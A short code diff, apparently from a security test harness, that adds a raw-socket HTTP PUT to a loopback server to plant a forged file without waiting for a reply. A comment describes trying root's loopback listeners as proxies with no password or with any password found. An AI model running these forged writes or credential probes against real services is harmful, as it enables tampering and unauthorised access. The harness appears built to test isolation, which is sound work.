@@ -98,6 +98,14 @@ async function attack(child) {
       const prefix = url.pathname.split('/')[1];
       const put = { ...target, method: 'PUT', path: '/' + prefix + '/forged.txt', headers: { Host: url.host } };
       await attempt('put ' + raw, put, 'forged by nobody');
+      // Sent and closed at once: no answer is needed to plant an output.
+      await new Promise((resolve) => {
+        const s = net.connect(Number(target.port), '127.0.0.1', () => {
+          s.end('PUT /' + prefix + '/forged-closed.txt HTTP/1.1\r\nHost: ' + url.host + '\r\nContent-Length: 6\r\n\r\nforged', resolve);
+        });
+        s.on('error', resolve);
+      });
+      log({ what: 'put-and-close ' + raw });
     }
     // A URL whose host is not loopback is reached through some proxy: try every loopback
     // listener of root as that proxy, without a password and with any in sight.
